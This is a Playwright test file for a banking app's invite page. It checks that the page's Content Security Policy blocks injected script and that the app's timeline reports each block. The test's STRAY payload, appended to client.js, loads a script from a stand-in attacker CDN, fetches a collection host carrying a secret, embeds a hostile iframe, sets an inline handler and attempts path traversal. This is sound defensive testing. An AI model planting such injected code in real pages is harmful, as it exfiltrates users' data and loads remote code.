import { expect, invite, signIn, test } from "./fixtures";

// What the policy stops is written to the console by the browser.
test.use({ provoked: [/Content Security Policy/i, /Fetch API cannot load/, /ERR_BLOCKED_BY_CSP/] });

/** What somebody who got into the bank's script would try. */
const STRAY = `
  const script = document.createElement("script");
  script.src = "https://cdn.evil.example/more.js?reference=SECRET";
  document.head.append(script);
  fetch("https://collect.evil.example/?reference=SECRET").catch(() => {});
  fetch("/api/connect/../../api/live").catch(() => {});
  const frame = document.createElement("iframe");
  frame.src = "https://frame.evil.example/";
  document.body.append(frame);
  document.body.setAttribute("onclick", "window.ran = true");`;

test("the page loads from the bank and from nowhere else, and its timeline says who tried", async ({
  page,
  browser,
  demo,
}) => {
  await signIn(page, demo);
  const link = await invite(page, demo, "Ines Moreau", "K-policy");
  const context = await browser.newContext();
  const asked: string[] = [];
  await context.route(/evil\.example/, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  await context.route("**/client.js", async (route) => {
    const real = await route.fetch();
    return route.fulfill({ response: real, body: `${await real.text()}\n${STRAY}` });
  });
  const end = await context.newPage();
  end.on("requestfinished", (request) => asked.push(request.url()));
  await end.goto(link);
  await expect(end.getByRole("button", { name: "Connect with Anytime" })).toBeVisible();
  await end.getByRole("heading", { level: 1 }).click();
  expect(await end.evaluate(() => "ran" in window)).toBe(false);

  await page.getByRole("link", { name: "Ines Moreau" }).click();
  for (const [origin, directive] of [
    ["https://cdn.evil.example", "script-src-elem"],
    ["https://collect.evil.example", "connect-src"],
    ["https://frame.evil.example", "frame-src"],
    ["inline", "script-src-attr"],
    [demo.url, "connect-src"],
  ]) {
    await expect(
      page.getByText(`The page’s security policy blocked ${origin} (${directive})`).first(),
    ).toBeVisible({ timeout: 15_000 });
  }
  await expect(page.getByText("SECRET")).toHaveCount(0);
  const hosts = new Set(asked.map((url) => new URL(url).origin));
  expect([...hosts].sort()).toEqual([demo.bank, demo.url].sort());
  await context.close();
});
